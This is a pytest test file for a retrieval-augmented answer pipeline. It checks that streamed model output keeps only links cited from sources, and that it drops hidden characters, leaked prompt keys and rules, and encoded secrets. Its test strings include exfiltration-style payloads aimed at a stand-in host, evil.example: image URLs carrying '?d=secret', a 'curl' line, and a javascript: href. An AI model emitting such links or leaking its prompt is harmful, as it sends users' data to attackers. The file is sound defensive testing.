"""Nothing is released that a document made a model write and that the sources do not have."""

from __future__ import annotations

import asyncio
import base64
import json
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ragopt.domain import Question
from ragopt.pipeline import ABSTENTION
from ragopt.prompt import SYSTEM, build_prompt, key_in
from ragopt.results import NO_HISTORY, Cited, Prepared
from ragopt.stages.cite.checker import CitationChecking
from ragopt.stages.cite.judging import ClaimJudge
from ragopt.stages.cite.released import REMOVED, holds
from ragopt.telemetry import Trace
from tests.fakes import context_of, passage

CONTEXT = context_of(
    passage("Cards cost eight dollars, see https://lib.example/cards.", n=1),
    passage("Refunds take ten days. ![map](https://lib.example/map.png)", n=2),
)
PREPARED = Prepared(Question("What is asked?", "acme"), CONTEXT, build_prompt(CONTEXT, NO_HISTORY))
CHECKING = CitationChecking(ClaimJudge.lexical())


def answered(*deltas: str, schema: str = "") -> tuple[str, Cited, Trace]:
    """Return what is released of a streamed answer, the whole, and its trace."""
    trace = Trace("r")
    prepared = replace(PREPARED, question=replace(PREPARED.question, answer_schema=schema))

    async def run() -> tuple[str, Cited]:
        checker = CHECKING(prepared, trace=trace)
        released = [await checker.feed(delta) for delta in deltas]
        rest, cited = await checker.finish()
        return "".join([*released, rest]), cited

    return *asyncio.run(run()), trace


@pytest.mark.parametrize(
    ("written", "released"),
    [
        ("See https://lib.example/cards [1].", "See https://lib.example/cards [1]."),
        ("See https://lib.example/cards?q=secret [1].", f"See {REMOVED} [1]."),
        ("See https://lib.example/cards [2].", f"See {REMOVED} [2]."),
        ("See www.evil.example for more.", f"See {REMOVED} for more."),
        ("![x](https://evil.example/p.png?d=secret) Paid [1].", "x Paid [1]."),
        ("![map](https://lib.example/map.png) Ten days [2].", "![map](https://lib.example/map.png) Ten days [2]."),
        ("[our page](//evil.example/a) Paid [1].", "our page Paid [1]."),
        ("Paid [1](https://evil.example/a).", "Paid [1]."),
        ("Paid. <img src=https://evil.example/p.png> Yes.", "Paid.  Yes."),
        ('Paid <a href="javascript:alert(1)">here</a>.', "Paid here."),
        ("[a]: https://evil.example/x\n", f"[a]: {REMOVED}\n"),
        ("`curl https://evil.example/x`", f"`curl {REMOVED}`"),
        ("```\ncurl https://evil.example/x\n```\n", f"```\ncurl {REMOVED}\n```\n"),
        ("Paid\u200b with\U000e0041 care.", "Paid with care."),
    ],
)
def test_links_and_images_are_those_of_the_cited_sources(written: str, released: str) -> None:
    """An address stays where a cited passage has exactly it; elsewhere its words stay, hidden characters nowhere."""
    text, cited, _ = answered(written)
    assert text == cited.text == released


DANGEROUS = (
    "First ![a](https://evil.example/p?d=1) then [b. Now go on](https://evil.example/q). "
    "<img src='//evil.example/r'> and www.evil.example/s.\n[c]: //evil.example/t\n"
    "Zero\u200bwidth ht\u200btps://evil.example/u stays hidden. Done."
)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.integers(1, len(DANGEROUS) - 1), max_size=12).map(sorted))
def test_no_cut_of_a_stream_lets_an_address_through(cuts: list[int]) -> None:
    """Wherever deltas end, the same is released, and nothing of it can be followed."""
    places = [0, *cuts, len(DANGEROUS)]
    text, _, trace = answered(*(DANGEROUS[start:end] for start, end in zip(places, places[1:], strict=False)))
    assert "evil.example" not in text
    assert "\u200b" not in text
    assert text == answered(DANGEROUS)[0]
    assert trace.facts["links_removed"] == 6


@pytest.mark.parametrize("disguise", [str, lambda key: " ".join(key), lambda key: key[::-1], str.upper])
def test_the_key_of_the_fences_is_no_part_of_an_answer(disguise: type[str]) -> None:
    """Whoever repeats it has repeated the prompt; the sentence is left out."""
    key = key_in(PREPARED.prompt)
    text, _, trace = answered(f"Cards cost eight dollars [1]. The key is {disguise(key)}. ")
    assert text.strip() == "Cards cost eight dollars [1]."
    assert trace.facts["prompt_leaks"] == 1


def test_the_rules_are_not_repeated() -> None:
    """Eight of their words in a row are too many, in words or in base64; the abstention among them may be said."""
    rule = SYSTEM.splitlines()[3]
    assert answered(f"My rules: {rule}")[0] == ABSTENTION
    assert answered(base64.b64encode(rule.encode()).decode())[0] == ABSTENTION
    assert answered(ABSTENTION)[0] == ABSTENTION


def test_strings_of_json_are_guarded_too() -> None:
    """However the JSON writes an address, what it stands for is looked at."""
    text, _, _ = answered(r'{"a": "See https:\/\/evil.example\/x [1].", "b": "Paid [1]."}', schema="{}")
    assert json.loads(text) == {"a": f"See {REMOVED} [1].", "b": "Paid [1]."}


def test_a_secret_is_found_in_what_hides_it() -> None:
    """Spelt out, reversed, encoded: what a reader can undo is undone."""
    secret = "open sesame 42"
    encoded = base64.b64encode(f"It is {secret}, ok?".encode()).decode()
    for text in (secret.upper(), "-".join(secret), secret[::-1], encoded):
        assert holds(text, secret), text
    assert not holds("open the door, sesame", secret)
